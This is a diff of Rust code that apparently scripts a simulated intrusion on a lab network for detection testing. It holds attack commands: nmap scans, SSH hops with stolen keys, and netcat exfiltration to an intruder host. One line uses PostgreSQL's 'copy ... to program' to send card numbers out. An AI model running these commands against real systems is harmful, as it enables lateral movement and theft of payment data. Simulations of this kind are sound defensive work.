@@ -58,31 +58,147 @@ pub(super) fn steps(seed: u64) -> Vec<Step> {
         )
     };
     let mut all = vec![
-        step("beacon", "T1071.001", "call home over HTTPS", entry, &[INTRUDER], &[443], "curl",
-            format!("curl -skf -m 8 -o /dev/null https://{INTRUDER}/index.html")),
-        step("scan-office", "T1046", "scan the office", entry, &["10.20.50.0/26"], SCANNED, "nmap", nmap("10.20.50.0/26")),
-        step("scan-servers", "T1046", "scan the data centre", entry,
-            &["10.20.10.0/26", "10.20.20.0/26", "10.20.30.0/26"], SCANNED, "nmap",
-            nmap("10.20.10.0/26 10.20.20.0/26 10.20.30.0/26")),
-        step("ssh-bastion", "T1021.004", "log in to the bastion with a stolen key", entry, &["bastion-1"], &[22], "ssh", login("bastion-1")),
-        step("ssh-dev", "T1021.004", "log in to a development server with a stolen key", entry, &["dev-app-1"], &[22], "ssh", login("dev-app-1")),
-        step("cache", "T1213", "read the shop's cache", entry, &["redis-1"], &[6379], "redis-cli", "timeout 6 redis-cli -h 10.20.30.31 get hits | grep .".into()),
-        step("dev-to-db", "T1078", "read the shop's database with a password found on the development server", "dev-app-1",
-            &["pg-shop-1"], &[5432], "psql", psql("pg-shop-1", "shop", "select count(*) from orders")).via(&["dev-app-1"]),
-        step("dev-exfiltrate", "T1048.003", "copy data out of the development server", "dev-app-1", &[INTRUDER], &[4444], "nc",
-            format!("head -c 300000 /dev/urandom | nc -N -w 6 {INTRUDER} 4444")).via(&["dev-app-1"]),
-        step("ssh-app", "T1021.004", "hop from the bastion to an application server", "bastion-1", &[target], &[22], "ssh", login(target)).via(&["bastion-1"]),
-        step("app-to-db", "T1213", "read the cards with the application's own account", target, &["pg-shop-1"], &[5432], "psql",
-            psql("pg-shop-1", "shop", "select count(card) from orders")).via(&["bastion-1", target]),
-        step("app-exfiltrate", "T1048.003", "copy the cards out of the application server", target, &[INTRUDER], &[4444], "nc",
-            format!("head -c 400000 /dev/urandom | nc -N -w 6 {INTRUDER} 4444")).via(&["bastion-1", target]),
-        step("billing-db", "T1078", "read the billing database with a stolen password", entry, &["pg-billing-1"], &[5432], "psql",
-            psql("pg-billing-1", "billing", "select count(*) from orders")),
+        step(
+            "beacon",
+            "T1071.001",
+            "call home over HTTPS",
+            entry,
+            &[INTRUDER],
+            &[443],
+            "curl",
+            format!("curl -skf -m 8 -o /dev/null https://{INTRUDER}/index.html"),
+        ),
+        step(
+            "scan-office",
+            "T1046",
+            "scan the office",
+            entry,
+            &["10.20.50.0/26"],
+            SCANNED,
+            "nmap",
+            nmap("10.20.50.0/26"),
+        ),
+        step(
+            "scan-servers",
+            "T1046",
+            "scan the data centre",
+            entry,
+            &["10.20.10.0/26", "10.20.20.0/26", "10.20.30.0/26"],
+            SCANNED,
+            "nmap",
+            nmap("10.20.10.0/26 10.20.20.0/26 10.20.30.0/26"),
+        ),
+        step(
+            "ssh-bastion",
+            "T1021.004",
+            "log in to the bastion with a stolen key",
+            entry,
+            &["bastion-1"],
+            &[22],
+            "ssh",
+            login("bastion-1"),
+        ),
+        step(
+            "ssh-dev",
+            "T1021.004",
+            "log in to a development server with a stolen key",
+            entry,
+            &["dev-app-1"],
+            &[22],
+            "ssh",
+            login("dev-app-1"),
+        ),
+        step(
+            "cache",
+            "T1213",
+            "read the shop's cache",
+            entry,
+            &["redis-1"],
+            &[6379],
+            "redis-cli",
+            "timeout 6 redis-cli -h 10.20.30.31 get hits | grep .".into(),
+        ),
+        step(
+            "dev-to-db",
+            "T1078",
+            "read the shop's database with a password found on the development server",
+            "dev-app-1",
+            &["pg-shop-1"],
+            &[5432],
+            "psql",
+            psql("pg-shop-1", "shop", "select count(*) from orders"),
+        )
+        .via(&["dev-app-1"]),
+        step(
+            "dev-exfiltrate",
+            "T1048.003",
+            "copy data out of the development server",
+            "dev-app-1",
+            &[INTRUDER],
+            &[4444],
+            "nc",
+            format!("head -c 300000 /dev/urandom | nc -N -w 6 {INTRUDER} 4444"),
+        )
+        .via(&["dev-app-1"]),
+        step(
+            "ssh-app",
+            "T1021.004",
+            "hop from the bastion to an application server",
+            "bastion-1",
+            &[target],
+            &[22],
+            "ssh",
+            login(target),
+        )
+        .via(&["bastion-1"]),
+        step(
+            "app-to-db",
+            "T1213",
+            "read the cards with the application's own account",
+            target,
+            &["pg-shop-1"],
+            &[5432],
+            "psql",
+            psql("pg-shop-1", "shop", "select count(card) from orders"),
+        )
+        .via(&["bastion-1", target]),
+        step(
+            "app-exfiltrate",
+            "T1048.003",
+            "copy the cards out of the application server",
+            target,
+            &[INTRUDER],
+            &[4444],
+            "nc",
+            format!("head -c 400000 /dev/urandom | nc -N -w 6 {INTRUDER} 4444"),
+        )
+        .via(&["bastion-1", target]),
+        step(
+            "billing-db",
+            "T1078",
+            "read the billing database with a stolen password",
+            entry,
+            &["pg-billing-1"],
+            &[5432],
+            "psql",
+            psql("pg-billing-1", "billing", "select count(*) from orders"),
+        ),
     ];
-    let mut out = step("db-exfiltrate", "T1059", "make the billing database send its cards out", "pg-billing-1", &[INTRUDER], &[4444], "nc",
-        format!("head -c 200000 /dev/urandom | nc -N -w 6 {INTRUDER} 4444"));
-    out.set_off = Some(psql("pg-billing-1", "billing",
-        &format!("copy (select card from orders) to program $$nc -N -w 6 {INTRUDER} 4444$$")));
+    let mut out = step(
+        "db-exfiltrate",
+        "T1059",
+        "make the billing database send its cards out",
+        "pg-billing-1",
+        &[INTRUDER],
+        &[4444],
+        "nc",
+        format!("head -c 200000 /dev/urandom | nc -N -w 6 {INTRUDER} 4444"),
+    );
+    out.set_off = Some(psql(
+        "pg-billing-1",
+        "billing",
+        &format!("copy (select card from orders) to program $$nc -N -w 6 {INTRUDER} 4444$$"),
+    ));
     all.push(out);
     all
 }
@@ -131,7 +247,7 @@ impl Step {
     }
 
     /// The command as the intruder gives it on the workstation, through every hop.
-    pub(super) fn from_entry(&self, run: &Path) -> String {
+    pub(super) fn chained(&self, run: &Path) -> String {
         let script = self.set_off.as_ref().unwrap_or(&self.script);
         let ssh = activity::ssh();
         let hop = |id: &String| format!("root@{}", site::address(id));
@@ -140,24 +256,37 @@ impl Step {
             [] => script.clone(),
             [one] => format!("{ssh} {} {}", hop(one), quoted(script)),
             [one, last, ..] => {
-                format!("{ssh} -o ProxyCommand=\"{ssh} -W %h:%p {}\" {} {}", hop(one), hop(last), quoted(script))
+                format!(
+                    "{ssh} -o ProxyCommand=\"{ssh} -W %h:%p {}\" {} {}",
+                    hop(one),
+                    hop(last),
+                    quoted(script)
+                )
             }
         };
         whole.replace("{run}", &run.display().to_string())
     }
 
     /// The command as it would run on `from` itself, as if everything before had worked.
-    pub(super) fn from_there(&self, run: &Path) -> String {
+    pub(super) fn alone(&self, run: &Path) -> String {
         self.script.replace("{run}", &run.display().to_string())
     }
 
     /// Whether a connection is part of it.
-    pub(super) fn explains(&self, entry: &str, client: &str, server: &str, server_ip: &str, port: u16) -> bool {
+    pub(super) fn explains(
+        &self,
+        entry: &str,
+        client: &str,
+        server: &str,
+        server_ip: &str,
+        port: u16,
+    ) -> bool {
         let hit = |to: &String| to == server || to == server_ip || in_range(to, server_ip);
         let own = client == self.from
             && self.to.iter().any(hit)
             && (self.ports.contains(&port) || self.tool == "nmap");
-        let mut chain = std::iter::once(entry).chain(self.hops.iter().map(String::as_str)).collect::<Vec<_>>();
+        let mut chain =
+            std::iter::once(entry).chain(self.hops.iter().map(String::as_str)).collect::<Vec<_>>();
         chain.dedup();
         let hopping = port == 22 && chain.windows(2).any(|w| w[0] == client && w[1] == server);
         let setting_off = self.set_off.is_some() && client == entry && server == self.from;
@@ -208,7 +337,7 @@ pub(super) fn run(seed: u64, phase: &Phase, start: Instant, folder: &Path) -> Ve
         let due = start + Duration::from_secs_f64(due_s);
         std::thread::sleep(due.saturating_duration_since(Instant::now()));
         let start_s = start.elapsed().as_secs_f64();
-        let (ok, said) = carry_out(entry, &step.from_entry(folder), 45, folder);
+        let (ok, said) = carry_out(entry, &step.chained(folder), 45, folder);
         let ok = ok && (step.tool != "nmap" || said.contains("/open/"));
         outcomes.push(Outcome { step, start_s, end_s: start.elapsed().as_secs_f64(), ok, said });
     }
@@ -233,7 +362,8 @@ mod tests {
 
     #[test]
     fn a_scans_report_is_read() {
-        let said = "Host: 10.20.30.11 ()\tPorts: 22/open/tcp//ssh///, 80/closed/tcp//http///, 5432/open/tcp//x///";
+        let said =
+            "Host: 10.20.30.11 ()\tPorts: 22/open/tcp//ssh///, 80/closed/tcp//http///, 5432/open/tcp//x///";
         let found: Vec<_> = Step::found(said).into_iter().collect();
         assert_eq!(found, [("pg-shop-1".to_owned(), 22), ("pg-shop-1".to_owned(), 5432)]);
     }
